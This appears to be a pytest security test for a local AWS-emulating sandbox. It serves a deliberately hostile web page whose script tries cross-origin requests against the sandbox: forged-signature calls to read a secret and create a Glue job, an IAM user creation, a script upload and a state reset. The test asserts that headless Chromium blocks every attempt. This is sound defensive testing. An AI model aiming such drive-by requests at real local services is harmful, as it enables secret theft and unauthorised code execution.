"""A page in a real browser can do nothing to a sandbox on the same machine."""

import http.server
import json
import os
import subprocess
import threading

import pytest

from tests.browser import chromium

pytestmark = pytest.mark.sandbox

PAGE = """<!doctype html><title>evil</title><script>
const endpoint = %s, scope = "Credential=test/20260101/ap-south-1/";
const forged = service => "AWS4-HMAC-SHA256 " + scope + service +
  "/aws4_request, SignedHeaders=host, Signature=0";
const attempts = {
  faults: ["/_sandbox/faults", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
           body: '[{"service": "s3", "operation": "*", "code": "Owned"}]'}],
  script: ["/manifest-bucket-054158074701/evil.py", {method: "PUT", body: "print(1)"}],
  form: ["/manifest-bucket-054158074701", {method: "POST", mode: "no-cors",
         body: new URLSearchParams({key: "evil.py"})}],
  job: ["/", {method: "POST", headers: {"X-Amz-Target": "AWSGlue.CreateJob", "Authorization": forged("glue")},
        body: '{"Name": "evil", "Role": "r", "Command": {"Name": "pythonshell"}}'}],
  query: ["/?Action=CreateUser&UserName=evil", {method: "POST", mode: "no-cors"}],
  secret: ["/", {method: "POST", headers: {"X-Amz-Target": "secretsmanager.GetSecretValue",
           "Authorization": forged("secretsmanager")}, body: '{"SecretId": "test/redshift"}'}],
  database: ["/_sandbox/database", {}],
  reset: ["/moto-api/reset", {method: "POST", mode: "no-cors"}],
  health: ["/_sandbox/health", {}],
};
(async () => {
  const results = {};
  for (const [name, [path, options]] of Object.entries(attempts)) {
    try {
      const answer = await fetch(endpoint + path, options);
      results[name] = answer.type + " " + answer.status + " " + await answer.text();
    } catch (error) { results[name] = "blocked"; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
  document.title = "done";
})();
</script>"""


@pytest.fixture
def site(account):
    """A web site of a stranger, and what its page reports of its attempts."""
    reports, reported = [], threading.Event()

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = (PAGE % json.dumps(account.endpoint)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            reported.set()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}/", reports, reported
    server.shutdown()
    server.server_close()


def test_a_page_of_a_stranger_gets_nowhere(site, client, control, running, tmp_path):
    url, reports, reported = site
    browser = chromium()
    before = control.get("calls")[1]
    words = ["--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}"]
    words += ["--no-first-run", "--disable-background-networking", "--no-proxy-server"]
    environ = {name: value for name, value in os.environ.items() if not name.lower().endswith("_proxy")}
    process = subprocess.Popen(
        [browser, *words, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=environ,
        start_new_session=True,
    )  # fmt: skip
    try:
        assert reported.wait(timeout=180), "the page did not report"
    finally:
        os.killpg(process.pid, 9)
        process.wait()
    (results,) = reports
    for name, told in results.items():
        assert told == "blocked" or told.startswith("opaque 0"), (name, told)
    assert control.get("faults")[1] == []
    assert control.get("calls")[1] == before
    listed = client("s3").list_objects_v2(Bucket="manifest-bucket-054158074701").get("Contents", [])
    assert "evil.py" not in [item["Key"] for item in listed]
    assert "evil" not in client("glue").list_jobs()["JobNames"]
    assert "evil" not in [user["UserName"] for user in client("iam").list_users()["Users"]]
